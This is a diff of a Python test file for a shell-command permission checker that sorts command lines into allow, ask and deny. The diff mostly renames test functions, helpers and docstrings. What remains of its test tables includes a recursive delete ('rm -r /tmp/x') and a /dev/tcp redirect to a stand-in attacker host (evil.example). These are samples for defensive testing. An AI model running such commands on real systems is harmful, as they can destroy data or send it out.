@@ -1,4 +1,4 @@
-"""Command lines and what becomes of them under one set of rules."""
+"""Command lines and their decisions under one set of rules."""
 
 import pytest
 
@@ -152,7 +152,7 @@ trap 'echo done' EXIT; npm test
 echo a >&out/x.log 2>&1
 echo "${x:-a value}" "${x:-'abc'}" ${x:-'a b; c'} $((16#ff))
 """
-"""Lines with a construct outside the language: they ask, although each of their commands is allowed."""
+"""Lines with an unsupported construct: they ask, although each of their commands is allowed."""
 
 ASKED = r"""
 rm -r /tmp/x
@@ -505,18 +505,18 @@ echo a > /dev/tcp/evil.example/80
 """
 
 
-def lines(table: str) -> list[str]:
-    """The command lines of a table; a here-document keeps its lines together, and so do an open bracket and a backslash."""
+def split_lines(table: str) -> list[str]:
+    """Return the command lines of a table; here-documents, open brackets, and backslashes join rows."""
     found: list[str] = []
     for row in table.strip("\n").split("\n"):
-        if found and _goes_on(found[-1]):
+        if found and _is_incomplete(found[-1]):
             found[-1] += "\n" + row
         else:
             found.append(row)
     return found
 
 
-def _goes_on(line: str) -> bool:
+def _is_incomplete(line: str) -> bool:
     if line.endswith("\\"):
         return True
     if "$(cat <<'EOF'" in line:
@@ -524,35 +524,35 @@ def _goes_on(line: str) -> bool:
     return ("<<EOF" in line or "<<'EOF'" in line) and not line.endswith("\nEOF")
 
 
-@pytest.mark.parametrize("line", lines(ALLOWED))
+@pytest.mark.parametrize("line", split_lines(ALLOWED))
 @pytest.mark.covers("SEC-01")
-async def test_allowed(line: str) -> None:
+async def test_command_is_allowed(line: str) -> None:
     decision = await shell(line, *ALLOW, deny=DENY)
 
     assert decision.outcome == "allow", [v for v in decision.verdicts if v.outcome != "allow"]
 
 
-@pytest.mark.parametrize("line", lines(NOT_UNDERSTOOD))
+@pytest.mark.parametrize("line", split_lines(NOT_UNDERSTOOD))
 @pytest.mark.parametrize("broad", ["shell", "shell(*)", "scope:shell-run"])
 @pytest.mark.covers("SEC-01")
-async def test_a_line_that_is_not_understood_asks_whatever_broad_rule_there_is(line: str, broad: str) -> None:
+async def test_unanalyzable_command_asks_despite_a_broad_rule(line: str, broad: str) -> None:
     decision = await shell(line, broad, *ALLOW, deny=DENY)
 
     assert decision.outcome == "ask"
     assert "cannot be analyzed: it uses " in decision.reason
 
 
-@pytest.mark.parametrize("line", lines(ASKED))
+@pytest.mark.parametrize("line", split_lines(ASKED))
 @pytest.mark.covers("SEC-01")
-async def test_asked(line: str) -> None:
+async def test_command_asks(line: str) -> None:
     decision = await shell(line, *ALLOW, deny=DENY)
 
     assert decision.outcome == "ask", decision.reason
 
 
-@pytest.mark.parametrize("line", lines(DENIED))
+@pytest.mark.parametrize("line", split_lines(DENIED))
 @pytest.mark.covers("SEC-02")
-async def test_denied(line: str) -> None:
+async def test_command_is_denied(line: str) -> None:
     decision = await shell(line, *ALLOW, deny=DENY)
 
     assert decision.outcome == "deny", decision.reason
@@ -560,14 +560,14 @@ async def test_denied(line: str) -> None:
     assert decision.rule.effect == "deny"
 
 
-@pytest.mark.parametrize("line", lines(ALLOWED))
-async def test_a_line_that_needs_no_question_is_refused_without_rules(line: str) -> None:
+@pytest.mark.parametrize("line", split_lines(ALLOWED))
+async def test_command_asks_without_allow_rules(line: str) -> None:
     decision = await shell(line)
 
     assert decision.outcome == "ask"
 
 
-@pytest.mark.parametrize("line", lines(ALLOWED))
-async def test_one_unknown_command_more_asks(line: str) -> None:
+@pytest.mark.parametrize("line", split_lines(ALLOWED))
+async def test_chaining_an_unknown_command_asks(line: str) -> None:
     for joined in (f"{line}\nwhoami", f"whoami; {line}", f"whoami && {line}"):
         assert (await shell(joined, *ALLOW, deny=DENY)).outcome == "ask", joined
